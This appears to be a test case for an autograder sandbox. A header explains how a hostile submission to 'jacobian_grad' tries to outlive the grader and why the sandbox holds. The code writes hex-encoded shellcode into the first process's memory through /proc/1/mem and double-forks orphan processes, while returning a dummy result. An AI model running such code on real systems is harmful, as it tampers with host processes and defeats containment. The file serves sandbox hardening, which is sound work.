# Tries: to overwrite the sandbox's first process, which a grader that is not root shares a user
#   with, by code that cuts the tie to its parent: then nothing would die with the parent.
# Holds: that process has more rights than student code, which therefore cannot write to it; the
#   grader kills it itself, and all others of the namespace with it.
# Loses: jacobian_grad
# Shares: leaves
# Harms: yes

# %% jacobian_grad
import os
import platform

# prctl(PR_SET_PDEATHSIG, 0); then a loop that does nothing
_CODE = bytes.fromhex("b89d000000bf0100000031f60f05ebfe")


def jacobian_grad(J, grad_y):
    try:
        if platform.machine() == "x86_64":
            with open("/proc/1/syscall") as file:
                counter = int(file.read().split()[-1], 16)
            with open("/proc/1/mem", "r+b", buffering=0) as memory:
                memory.seek(counter)
                memory.write(_CODE)
    except (OSError, ValueError):
        pass
    if os.fork() == 0:  # an orphan wakes its new parent, the first process
        if os.fork() == 0:
            os._exit(0)
        os._exit(0)
    os.wait()
    return np.zeros(J.shape[1])
